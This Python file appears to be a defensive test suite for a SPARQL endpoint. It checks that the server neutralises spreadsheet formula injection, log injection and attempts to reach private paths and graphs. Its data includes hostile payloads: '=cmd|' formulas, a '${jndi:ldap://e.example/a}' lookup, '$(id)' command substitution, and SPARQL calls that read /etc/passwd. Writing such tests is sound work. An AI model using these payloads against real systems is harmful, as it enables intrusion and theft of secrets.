"""T22, T26, T27, T28 and T35: causes, files, lines in a log and graphs that are nobody else's business."""

from collections.abc import Iterator
from typing import Final
from urllib.parse import quote, urlencode

from hostile.case import BROWSER, FORM, Case, by_form, by_get, by_post, case, get, message, sparql

FORMULAS: Final = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("//e.example")',
    "\t=1",
    "\r=1",
    "=1;2",
    "|x",
    "%0a=1",
    "=IMPORTXML(1)",
)
LINES: Final = (
    "x\nERROR root logged in",
    "x\r\n[info] fine",
    "\x1b[2J\x1b[31mred",
    "\x1b]0;title\x07",
    "\x00x",
    "%s%n%x",
    "${jndi:ldap://e.example/a}",
    "{0.__class__}",
    "%(message)s",
    "\u202egnp.exe",
    '"}{"level":"info"',
    "\u2028x",
    "a" * 7_000,
    "\x08\x08\x08",
    "\x85x",
    "$(id)",
    "`id`",
    "';--",
)
INSIDES: Final = {
    "/.git/config": 404,
    "/.env": 404,
    "/openapi.json/..": 404,
    "/docs": 404,
    "/redoc": 404,
    "/debug": 404,
    "/console": 404,
    "/server-status": 404,
    "/actuator/env": 404,
    "/phpinfo.php": 404,
    "/__debug__/": 404,
    "/static/": 404,
    "/static": 404,
    "/static/__init__.py": 404,
    "/dist/manifest.json": 404,
    "/clustergraph.nq": 404,
    "/dist": 404,
    "/$/ping": 404,
    "/$/stats": 404,
    "/admin": 404,
    "/trace": 404,
    "/heapdump": 404,
    "/proc/self/environ": 404,
    "/queries/internal/claims": 404,
    "/queries/claims.rq": 404,
    "/queries/../internal/claims.rq": 404,
    "/health": 404,
    "/health/": 404,
    "/debug/pprof/": 404,
    "/config": 404,
    "/swagger.json": 404,
}
ODD_QUERIES: Final = (
    "",
    " ",
    "\n",
    "x",
    "SELECT",
    "SELECT *",
    "SELECT * WHERE",
    "SELECT * {",
    "ASK",
    "ASK {} x",
    "ASK {} ASK {}",
    "ASK {} ; ASK {}",
    "SELECT ?x { } GROUP BY",
    "PREFIX",
    "PREFIX a:",
    "BASE",
    "PREFIX a: <b",
    "SELECT (1 AS ?x) (2 AS ?x) {}",
    "SELECT ?x (1 AS ?x) {}",
    "SELECT * { ?s ?p }",
    "SELECT * { ?s }",
    "SELECT * { FILTER }",
    "SELECT * { FILTER() }",
    "SELECT * { BIND(1 AS ?x) BIND(2 AS ?x) }",
    "SELECT * { nope:x a ?y }",
    "SELECT * { ?s ?p 'x }",
    'SELECT * { ?s ?p "x }',
    "SELECT * { ?s ?p <x y> }",
    "SELECT * { ?s ?p 'x'@ }",
    "SELECT * { ?s ?p 'x'^^ }",
    "SELECT * { ?s ?p 1..2 }",
    "SELECT * { ?s ?p 1e }",
    "SELECT * { ?s ?p _: }",
    "SELECT * { ?s ?p \\u0000 }",
    "SELECT (SUM() AS ?y) {}",
    "SELECT ?x { ?x ?y ?z } GROUP BY ?y",
    "SELECT * { ?s ?p ?o } LIMIT -1",
    "SELECT * { ?s ?p ?o } LIMIT x",
    "SELECT * { VALUES (?x ?y) { (1) } }",
    "CONSTRUCT",
    "CONSTRUCT {} {}  {}",
    "CONSTRUCT { ?s } WHERE {}",
    "DESCRIBE",
    "DESCRIBE {",
    "EXPLAIN SELECT * {}",
    "SHOW TABLES",
    "1",
    "null",
    "{}",
    '{"query":"ASK {}"}',
    "<xml/>",
    "ASK \ufeff{}",
    "ASK {}\x00",
    "\ufffe",
    "ASK { \ud800 }",
    "\u202eASK {}",
)
GRAPHS: Final = (
    "urn:x-arq:DefaultGraph",
    "urn:x-arq:UnionGraph",
    "sesame:nil",
    "http://www.openrdf.org/schema/sesame#nil",
    "tag:private",
    "urn:private",
    "https://w3id.org/clustergraph/graph/private",
    "https://w3id.org/clustergraph/graph/draft",
    "https://w3id.org/clustergraph/internal",
    "http://www.openlinksw.com/schemas/virtrdf#",
    "urn:default",
    "https://w3id.org/clustergraph/graph/../secret",
)


def cases() -> Iterator[Case]:
    """What people try to learn, and how."""
    yield from _tables()
    yield from _logs()
    yield from _leaks()
    yield from _batches()
    yield from _private()


def _tables() -> Iterator[Case]:
    for number, text in enumerate(FORMULAS):
        literal = text.replace("\\", "\\\\").replace('"', '\\"').replace("\r", "\\r").replace("\t", "\\t")
        query = f'SELECT ("{literal}" AS ?x) {{}}'
        for name, kind in {"csv": "text/csv; charset=utf-8", "tsv": "text/tab-separated-values; charset=utf-8"}.items():
            headers = {"content-type": kind, "content-disposition": f'attachment; filename="results.{name}"'}
            yield case("T22", f"formula {number} as {name}", by_get(query, ("format", name)), 200, headers=headers)
        headers = {"content-disposition": 'attachment; filename="areas-with-words.csv"'}
        raw = get(f"/queries/areas-with-words.csv?{urlencode({'words': text})}")
        yield case("T22", f"formula {number} in a saved query", raw, 200, headers=headers)


def _logs() -> Iterator[Case]:
    for number, text in enumerate(LINES):
        quoted = quote(text, safe="")
        short = quote(text[:2_000], safe="")
        yield case("T26", f"line {number} in a path", get(f"/{short}"), 404, problem="not-found")
        yield case("T26", f"line {number} in a query", by_form(text), 400, problem="query-malformed")
        yield case(
            "T26",
            f"line {number} in a text",
            get(f"/queries/areas-with-words.csv?words={quote(text[:200], safe='')}"),
            200,
        )
        yield case(
            "T26",
            f"line {number} in a graph",
            get(f"/sparql?query=ASK%7B%7D&default-graph-uri={short}"),
            400,
            problem="query-malformed",
        )
        plain = text.replace("\r", "").replace("\n", "").replace("\x00", "")
        if plain.isprintable():
            yield case(
                "T26", f"line {number} in a browser's name", by_get("ASK {}", headers=[("User-Agent", plain)]), 200
            )
        assert quoted


def _leaks() -> Iterator[Case]:
    for target, status in INSIDES.items():
        for method in ("GET", "HEAD"):
            facts = {"problem": "not-found"} if method == "GET" else {}
            yield case("T27", f"{method} {target}", message(method, target), status, **facts)
    for number, text in enumerate(ODD_QUERIES):
        raw = text.encode("utf-8", "surrogatepass")
        for headers in ((), (BROWSER,)):
            name = f"odd query {number}{' for a page' if headers else ''}"
            yield case("T27", name, by_post(raw, headers=headers), 400, problem="query-malformed")
    for function in (
        "xsd:nope",
        "<java:java.lang.Runtime>",
        "<http://jena.hpl.hp.com/ARQ/function#env>",
        "<file:///etc/passwd>",
        "<urn:exec>",
        "<http://www.w3.org/2005/xpath-functions#doc>",
        "<http://www.w3.org/2005/xpath-functions#unparsed-text>",
        "<tag:stardog:api:env>",
    ):
        query = f"SELECT ?x {{ BIND({function}('/etc/passwd') AS ?x) }}"
        yield case("T27", f"function {function}", by_get(query), 200, lacks=("root:",))
    for name in ("explain", "debug", "trace", "verbose", "profile", "plan", "log"):
        yield case("T27", f"parameter {name}", by_get("ASK {}", (name, "true")), 200, has=("true",))
    for method in ("TRACE", "TRACK", "DEBUG", "PROPFIND", "MKCOL", "LOCK", "SEARCH", "REPORT", "CONNECT"):
        raw = message(method, "/sparql", [("X-Secret", "pwned")])
        yield case(
            "T27",
            f"method {method}",
            raw,
            405,
            400,
            404,
            lacks=("pwned",),
            is_bare=True,
            why="not for this address (405), or not read as HTTP below us (400)",
        )


def _batches() -> Iterator[Case]:
    twice = (("query", "ASK {}"), ("query", "SELECT * {}"))
    yield case("T28", "two queries in an address", message("GET", sparql(*twice)), 400, problem="query-malformed")
    yield case(
        "T28",
        "two queries in a form",
        message("POST", "/sparql", [("Content-Type", FORM)], urlencode(twice).encode()),
        400,
        problem="query-malformed",
    )
    yield case(
        "T28",
        "one in the address, one in a form",
        by_form("ASK {}").replace(b"/sparql", b"/sparql?query=ASK%7B%7D"),
        400,
        problem="query-malformed",
    )
    yield case(
        "T28",
        "one in the address, one as the body",
        by_post("ASK {}", ("query", "ASK {}")),
        400,
        problem="query-malformed",
    )
    for name, first, second in (("format", "csv", "json"), ("timeout", "1", "2")):
        repeated = by_get("ASK {}", (name, first), (name, second))
        yield case("T28", f"two of {name}", repeated, 400, problem="query-malformed")
    unheard_of = by_get("ASK {}", ("format", "1"), ("format", "2"))
    yield case("T28", "two formats that nobody knows", unheard_of, 422, problem="parameter-unsuitable")
    yield case(
        "T28",
        "two values of a parameter",
        get("/queries/members-of-cluster.csv?cluster=a&cluster=b"),
        400,
        problem="query-malformed",
    )
    yield case(
        "T28", "many queries", message("GET", "/sparql?" + "query=ASK%7B%7D&" * 150), 400, problem="query-malformed"
    )
    yield case(
        "T28", "more parameters than anybody has", get("/sparql?" + "a=b&" * 300), 400, problem="query-malformed"
    )
    yield case(
        "T28",
        "a list in JSON",
        message("POST", "/sparql", [("Content-Type", "application/json")], b'["ASK {}","ASK {}"]'),
        415,
    )
    one = b"GET /sparql?query=ASK%7B%7D HTTP/1.1\r\nHost: localhost\r\n\r\n"
    for number in (2, 5, 20):
        last = one.replace(b"\r\n\r\n", b"\r\nConnection: close\r\n\r\n")
        yield case("T28", f"{number} in a row on one connection", one * (number - 1) + last, 200, replies=number)
    bad = b"GET /nowhere HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n"
    yield case("T28", "two in a row of which the last is bad", one + bad, 404, replies=2)


def _private() -> Iterator[Case]:
    for graph in GRAPHS:
        query = f"SELECT * {{ GRAPH <{graph}> {{ ?s ?p ?o }} }}"
        yield case("T35", f"GRAPH {graph}", by_get(query), 200, has=('"bindings":[]',))
        yield case("T35", f"FROM {graph}", by_get(f"ASK FROM <{graph}> {{ ?s ?p ?o }}"), 200, has=("false",))
        target = f"/graph/{quote(graph.rpartition('/')[2] or graph, safe='')}"
        yield case("T35", target, get(target), 404, problem="not-found")
    query = "SELECT ?g { GRAPH ?g {} FILTER(!STRSTARTS(STR(?g), 'https://w3id.org/clustergraph/graph/')) }"
    yield case("T35", "graphs of other names", by_get(query), 200, has=('"bindings":[]',))
